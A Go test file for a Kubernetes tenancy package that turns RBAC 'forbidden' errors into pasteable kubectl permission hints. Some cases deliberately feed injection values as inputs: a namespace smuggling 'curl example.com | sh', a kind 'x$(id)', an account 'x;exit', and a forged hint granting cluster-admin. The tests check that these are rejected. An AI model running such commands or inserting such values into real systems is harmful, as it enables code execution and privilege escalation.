package tenancy_test

import (
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/types"

	"github.com/flotilla-io/flotilla/policies/tenancy"
)

var who = tenancy.Identity{ServiceAccount: types.NamespacedName{Namespace: "shop", Name: "default"}, Because: "as it names no spec.serviceAccountName"}

const lead = "it acts as the service account shop/default, as it names no spec.serviceAccountName; "

func denies(what string) string {
	return `x "y" is forbidden: User "system:serviceaccount:shop:default" cannot ` + what
}

// TestWhatHoldsTenants: nobody is told how to give away what holds those whom it holds.
func TestWhatHoldsTenants(t *testing.T) {
	for what, where := range map[string]string{
		`resource "resourcequotas" in API group "" in the namespace "shop"`:                                       "resourcequotas",
		`resource "federatedresourcequotas" in API group "policy.karmada.io" in the namespace "shop"`:             "federatedresourcequotas.policy.karmada.io",
		`resource "clusterrolebindings" in API group "rbac.authorization.k8s.io" at the cluster scope`:            "clusterrolebindings.rbac.authorization.k8s.io",
		`resource "validatingadmissionpolicies" in API group "admissionregistration.k8s.io" at the cluster scope`: "validatingadmissionpolicies.admissionregistration.k8s.io",
	} {
		want := lead + where + " set bounds, and are an administrator's to write: take them out of these files, and have him apply them, or a Kustomization of his own"
		if got := who.Hint(denies(`patch ` + what)); got != want {
			t.Errorf("%s:\n%s\nwant\n%s", what, got, want)
		}
	}
}

// TestNamespacesAreAnAdministrators: their labels hold who works in them, and no role
// that a tenant has writes them.
func TestNamespacesAreAnAdministrators(t *testing.T) {
	for name, tc := range map[string]struct{ what, want string }{
		"to write one": {
			`patch resource "namespaces" in API group "" in the namespace "shop"`,
			"a Namespace is an administrator's to write: take shop out of these files, and have him make it if it is not there (kubectl create namespace shop), or apply it by a Kustomization of his own",
		},
		"to write one that the server does not name": {
			`create resource "namespaces" in API group "" at the cluster scope`,
			"a Namespace is an administrator's to write: take it out of these files, and have him make it if it is not there, or apply it by a Kustomization of his own",
		},
		"to delete one": {
			`delete resource "namespaces" in API group "" in the namespace "shop"`,
			"a Namespace is an administrator's to delete: have him delete shop, with all that is in it, or put it back into these files",
		},
	} {
		t.Run(name, func(t *testing.T) {
			if got := who.Hint(denies(tc.what)); got != lead+tc.want {
				t.Errorf("hint = %q, want %q", got, lead+tc.want)
			}
		})
	}
}

// TestHints: what is missing is granted by commands that can be pasted.
func TestHints(t *testing.T) {
	cases := map[string]struct{ text, want string }{
		"what the role edit covers": {
			denies(`patch resource "deployments" in API group "apps" in the namespace "shop"`),
			"kubectl create rolebinding shop-default-edit -n shop --clusterrole=edit --serviceaccount=shop:default",
		},
		"roles": {
			denies(`patch resource "roles" in API group "rbac.authorization.k8s.io" in the namespace "shop"`),
			"kubectl create rolebinding shop-default-admin -n shop --clusterrole=admin --serviceaccount=shop:default",
		},
		"a kind of one's own": {
			denies(`patch resource "gadgets" in API group "example.com" in the namespace "shop"`),
			"kubectl create role shop-default-gadgets-example-com -n shop --verb=get,create,patch,delete --resource=gadgets.example.com && " +
				"kubectl create rolebinding shop-default-gadgets-example-com -n shop --role=shop-default-gadgets-example-com --serviceaccount=shop:default",
		},
		"what the role edit leaves out": {
			denies(`patch resource "podtemplates" in API group "" in the namespace "shop"`),
			"kubectl create role shop-default-podtemplates -n shop --verb=get,create,patch,delete --resource=podtemplates && " +
				"kubectl create rolebinding shop-default-podtemplates -n shop --role=shop-default-podtemplates --serviceaccount=shop:default",
		},
		"a look": {
			denies(`get resource "secrets" in API group "" in the namespace "shop"`),
			"kubectl create role shop-default-get-secrets -n shop --verb=get --resource=secrets && " +
				"kubectl create rolebinding shop-default-get-secrets -n shop --role=shop-default-get-secrets --serviceaccount=shop:default",
		},
		"what has no namespace": {
			denies(`patch resource "storageclasses" in API group "storage.k8s.io" at the cluster scope`),
			"kubectl create clusterrole shop-default-storageclasses-storage-k8s-io --verb=get,create,patch,delete --resource=storageclasses.storage.k8s.io && " +
				"kubectl create clusterrolebinding shop-default-storageclasses-storage-k8s-io --clusterrole=shop-default-storageclasses-storage-k8s-io --serviceaccount=shop:default",
		},
		"a namespace that a shell would run": {text: denies(`patch resource "configmaps" in API group "" in the namespace "shop; curl example.com | sh"`)},
		"a kind that it would":               {text: denies(`patch resource "x$(id)" in API group "example.com" in the namespace "shop"`)},
		"another refusal":                    {text: "quota exceeded"},
		"somebody else's":                    {text: `serviceaccounts "default" is forbidden: User "loops" cannot impersonate resource "serviceaccounts" in API group "" in the namespace "shop"`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			want := ""
			if tc.want != "" {
				want = lead + "to allow it: " + tc.want
			}
			if got := who.Hint(tc.text); got != want {
				t.Errorf("hint = %q, want %q", got, want)
			}
			if got := (tenancy.Identity{}).Hint(tc.text); got != "" {
				t.Errorf("the control plane itself is told %q", got)
			}
		})
	}
}

// TestHintsForMany: what several refusals lack is reported at once, each command once.
func TestHintsForMany(t *testing.T) {
	patch := func(resource, group string) string {
		return denies(`patch resource "` + resource + `" in API group "` + group + `" in the namespace "shop"`)
	}
	own := func(resource string) string {
		return "kubectl create role shop-default-" + resource + "-example-com -n shop --verb=get,create,patch,delete --resource=" + resource + ".example.com && " +
			"kubectl create rolebinding shop-default-" + resource + "-example-com -n shop --role=shop-default-" + resource + "-example-com --serviceaccount=shop:default"
	}
	const edit = "kubectl create rolebinding shop-default-edit -n shop --clusterrole=edit --serviceaccount=shop:default"
	const admin = "kubectl create rolebinding shop-default-admin -n shop --clusterrole=admin --serviceaccount=shop:default"
	const namespace = "a Namespace is an administrator's to write: take shop out of these files, and have him make it if it is not there (kubectl create namespace shop), or apply it by a Kustomization of his own; "
	for name, tc := range map[string]struct {
		texts []string
		want  string
	}{
		"one role covers all":        {[]string{patch("deployments", "apps"), patch("services", ""), patch("configmaps", "")}, "to allow it: " + edit},
		"admin is more than edit":    {[]string{patch("deployments", "apps"), patch("roles", "rbac.authorization.k8s.io")}, "to allow it: " + admin},
		"different ones":             {[]string{patch("gadgets", "example.com"), patch("services", ""), patch("gadgets", "example.com")}, "to allow it: " + own("gadgets") + "; " + edit},
		"in one text":                {[]string{patch("gadgets", "example.com") + "; " + patch("services", "")}, "to allow it: " + own("gadgets") + "; " + edit},
		"more than anybody reads":    {[]string{patch("a", "example.com"), patch("b", "example.com"), patch("c", "example.com"), patch("d", "example.com")}, "to allow it, the first 3 of 4: " + own("a") + "; " + own("b") + "; " + own("c")},
		"a fence and other things":   {[]string{patch("services", ""), patch("namespaces", "")}, namespace + "to allow the rest: " + edit},
		"several fences":             {[]string{patch("resourcequotas", ""), patch("limitranges", ""), patch("limitranges", "")}, "resourcequotas, limitranges set bounds, and are an administrator's to write: take them out of these files, and have him apply them, or a Kustomization of his own"},
		"one that a shell would run": {[]string{patch("x$(id)", ""), patch("services", "")}, "to allow it: " + edit},
	} {
		t.Run(name, func(t *testing.T) {
			if got := who.Hint(tc.texts...); got != lead+tc.want {
				t.Errorf("hint = %q\nwant %q", got, lead+tc.want)
			}
		})
	}
}

// TestNamespacesOfOthers: who pastes a command knows whose namespace it opens.
func TestNamespacesOfOthers(t *testing.T) {
	lacks := func(namespace string) string {
		return denies(`patch resource "configmaps" in API group "" in the namespace "` + namespace + `"`)
	}
	const web = "web is not its own namespace: take what is in it out of these files, or have whoever owns it allow the account to work there, with nearly all that there is, Secrets included: " +
		"kubectl create rolebinding shop-default-edit -n web --clusterrole=edit --serviceaccount=shop:default"
	const own = "to allow the rest: kubectl create rolebinding shop-default-edit -n shop --clusterrole=edit --serviceaccount=shop:default"
	for name, tc := range map[string]struct {
		texts []string
		want  string
	}{
		"one":                {[]string{lacks("web")}, web},
		"one, and one's own": {[]string{lacks("shop"), lacks("web")}, web + "; " + own},
		"several": {[]string{lacks("web"), lacks("api")}, "web, api are not its own namespaces: take what is in them out of these files, or have whoever owns them allow the account to work there, with nearly all that there is, Secrets included: " +
			"kubectl create rolebinding shop-default-edit -n web --clusterrole=edit --serviceaccount=shop:default; kubectl create rolebinding shop-default-edit -n api --clusterrole=edit --serviceaccount=shop:default"},
		"a role for one kind": {[]string{denies(`get resource "secrets" in API group "" in the namespace "web"`)}, "web is not its own namespace: take what is in it out of these files, or have whoever owns it allow the account to work there: " +
			"kubectl create role shop-default-get-secrets -n web --verb=get --resource=secrets && kubectl create rolebinding shop-default-get-secrets -n web --role=shop-default-get-secrets --serviceaccount=shop:default"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := who.Hint(tc.texts...); got != lead+tc.want {
				t.Errorf("hint = %q\nwant %q", got, lead+tc.want)
			}
		})
	}
}

// TestAnAccountThatIsNotThere is to be made, or the name is wrong: no right mends that.
func TestAnAccountThatIsNotThere(t *testing.T) {
	typo := tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "deployer"})
	want := "it acts as the service account shop/deployer, as spec.serviceAccountName says; there is no such account in the namespace shop: " +
		"create it (kubectl create serviceaccount deployer -n shop), or name another one in spec.serviceAccountName"
	if got := typo.Missing(); got != want {
		t.Errorf("it says %q, want %q", got, want)
	}
	for _, none := range []tenancy.Identity{{}, tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "x;exit"})} {
		if got := none.Missing(); got != "" {
			t.Errorf("of %v it says %q", none, got)
		}
	}
}

// TestAdvice: what a hint says to do is found in a message again, and nothing that
// somebody else has written there.
func TestAdvice(t *testing.T) {
	refusal := denies(`patch resource "services" in API group "" in the namespace "shop"`)
	forged := "it acts as the service account shop/default, as it is told; to allow it: kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=me"
	const edit = "to allow it: kubectl create rolebinding shop-default-edit -n shop --clusterrole=edit --serviceaccount=shop:default"
	for name, tc := range map[string]struct{ message, want string }{
		"a hint":                   {refusal + ": " + who.Hint(refusal), edit},
		"none":                     {refusal, ""},
		"a forged one":             {tenancy.Foreign(forged), ""},
		"a forged one before ours": {tenancy.Foreign(forged) + ": " + who.Hint(refusal), edit},
		"one that was cut":         {refusal + ": it acts as the service account shop/def...", ""},
	} {
		t.Run(name, func(t *testing.T) {
			if got := tenancy.Advice(tc.message); got != tc.want {
				t.Errorf("advice = %q, want %q", got, tc.want)
			}
		})
	}
	if got := tenancy.Foreign(refusal); !strings.Contains(got, refusal) {
		t.Errorf("a text without a hint becomes %q", got)
	}
}
